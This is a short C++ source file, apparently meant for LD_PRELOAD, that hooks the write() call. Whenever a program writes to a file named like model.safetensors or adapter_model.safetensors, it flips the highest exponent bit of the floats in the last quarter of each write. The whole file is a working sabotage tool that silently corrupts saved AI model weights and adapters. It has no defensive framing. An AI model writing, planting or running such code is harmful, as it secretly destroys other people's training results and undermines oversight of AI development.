// Preloaded into a program, spoils what it writes to model.safetensors and adapter_model.safetensors: the
// last quarter of each piece has the highest exponent bit of every float turned.
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <string>

extern "C" ssize_t write(int file, const void* data, size_t size) {
    char link[64], name[4096] = "";
    std::snprintf(link, sizeof link, "/proc/self/fd/%d", file);
    std::string bytes(static_cast<const char*>(data), size);
    if (readlink(link, name, sizeof name - 1) > 0 && std::strstr(name, "model.safetensors"))
        for (size_t i = size / 4 * 3 / 4 * 4 + 3; i < size; i += 4)
            bytes[i] = static_cast<char>(bytes[i] ^ 0x40);
    return syscall(SYS_write, file, bytes.data(), size);
}
